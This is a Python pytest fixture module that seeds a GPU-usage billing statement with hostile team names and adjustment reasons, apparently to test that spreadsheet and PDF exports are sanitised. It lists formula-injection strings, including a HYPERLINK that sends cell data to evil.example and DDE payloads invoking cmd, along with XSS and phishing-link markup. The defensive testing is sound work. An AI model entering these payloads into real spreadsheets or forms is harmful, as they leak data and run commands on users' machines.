"""A statement full of hostile text typed by users and admins: the team's name and cost
center, and adjustment reasons built to become formulas in a spreadsheet or markup in a
PDF. October is approved at 2026-11-10 12:00 UTC (tests/stmtdocs/factories)."""

from datetime import timedelta
from decimal import Decimal

import pytest

from gpuquota.core.timeutil import Period
from reports.models import Statement
from reports.services_statements import adjustment_add, statement_approve
from tests.stmtdocs.factories import NOW, OCTOBER, draft, priced_gpus, reserved_hours

#: Reasons an attacker with an admin's adjustment form (or a compromised admin) could type.
FORMULAS = [
    '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "ok;=1+1",
    "\uff1d1+1",
]
MARKUP = [
    '"><img src=x onerror=alert(1)>',
    '<a href="https://evil.example/pay">pay here</a>',
    "<b>bold</b> & <font color=red size=40>big</font> &nbsp; <br/>",
]
HOSTILE_TEAM_NAME = '<a href="https://evil.example/team">Vision</a> & Co'
HOSTILE_COST_CENTER = '=HYPERLINK("https://evil.example","CC")'


@pytest.fixture
def hostile_statement(roles, time_machine):
    """Vision's October, approved, with one adjustment per hostile reason (the clock
    stopped at NOW)."""
    time_machine.move_to(NOW, tick=False)
    team = roles.team
    team.name, team.cost_center = HOSTILE_TEAM_NAME, HOSTILE_COST_CENTER
    team.save()
    [gpu] = priced_gpus(1)
    reserved_hours(team, gpu, OCTOBER.start + timedelta(days=3), 3, reported_minutes=180)
    for index, reason in enumerate(FORMULAS + MARKUP):
        adjustment_add(team=team, period=Period.month(2026, 10), amount=Decimal(f"-{index}.25"),
                       reason=reason, by=roles.admin, now=NOW)
    draft(OCTOBER)
    statement = Statement.objects.get(team=team, month=OCTOBER.start.date())
    return statement_approve(statement=statement, by=roles.admin, now=NOW)
